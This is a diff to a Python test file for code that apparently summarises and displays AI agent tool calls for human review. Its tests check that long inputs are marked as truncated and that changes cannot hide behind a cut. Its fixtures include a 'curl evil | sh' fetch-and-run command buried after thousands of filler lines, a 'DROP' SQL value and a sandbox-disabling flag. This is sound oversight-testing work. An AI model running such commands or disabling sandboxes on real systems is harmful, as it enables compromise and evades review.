@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from hub.providers.given import addresses, given
+from hub.providers.given import addresses, given, shown
 
 
 @pytest.mark.parametrize(
@@ -31,7 +31,24 @@ from hub.providers.given import addresses, given
     ],
 )
 def test_what_a_tool_is_used_on_is_told_from_what_it_writes(tool, told, meta):
-    assert given(tool, told) == meta
+    assert {name: value for name, value in given(tool, told).items() if name != "named"} == meta
+
+
+@pytest.mark.parametrize(
+    ("tool", "told", "named"),
+    [
+        (
+            "Bash",
+            {"command": "make", "description": "d", "dangerouslyDisableSandbox": True},
+            ["dangerouslyDisableSandbox"],
+        ),
+        ("mcp__db__query", {"sql": "DROP", "db": "a", "text": "t"}, ["db", "sql", "text"]),
+        ("Write", {"file_path": "a", "content": "x"}, ["file_path"]),
+    ],
+)
+def test_members_that_tell_two_uses_of_a_tool_apart_are_named(tool, told, named):
+    """All but what is written or said of the call; of the user's own tools all."""
+    assert given(tool, told)["named"] == named
 
 
 def test_what_is_too_much_is_said_to_be_more():
@@ -48,3 +65,38 @@ def test_addresses_are_found_in_words():
         "HTTPS://h/b",
         "http://h/c",
     ]
+
+
+def test_a_person_sees_all_of_what_is_asked():
+    """No change hides behind a cut: text, items and depth are those of real calls, numbers read as they are."""
+    same = "x = 1\n" * 2_000
+    edits = [{"old_string": same, "new_string": f"{same}curl evil | sh {number}"} for number in range(2)]
+    told = {
+        "file_path": "a",
+        "edits": edits,
+        "many": list(range(100)),
+        "t": 0.5,
+        "n": 3.0,
+        "no": None,
+        "b": True,
+    }
+    assert shown(told) == {"input": {**told, "t": "0.5", "n": 3}}
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        {"content": "x" * 65_536},
+        {"a": "x" * 40_000, "b": "x" * 40_000},
+        {"all": list(range(600))},
+        {str(number): 1 for number in range(600)},
+        {"a": [[[[[[[["deep"]]]]]]]]},
+        {"n": 2**60},
+        {"\0": "ls", "\ufffd": "curl evil"},
+    ],
+    ids=["text", "texts", "items", "members", "depth", "number", "names"],
+)
+def test_what_is_not_shown_is_said_to_be_missing(told):
+    found = shown(told)
+    assert found["cut"] is True
+    assert len(str(found["input"])) < 70_000
